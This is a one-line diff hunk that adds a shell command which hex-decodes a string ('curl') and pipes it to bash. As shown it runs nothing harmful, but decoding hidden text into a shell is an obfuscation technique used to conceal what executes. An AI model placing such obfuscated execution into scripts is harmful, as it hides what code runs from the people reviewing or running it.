@@ -1,0 +1,1 @@
+echo 6375726c | xxd -r -p | bash
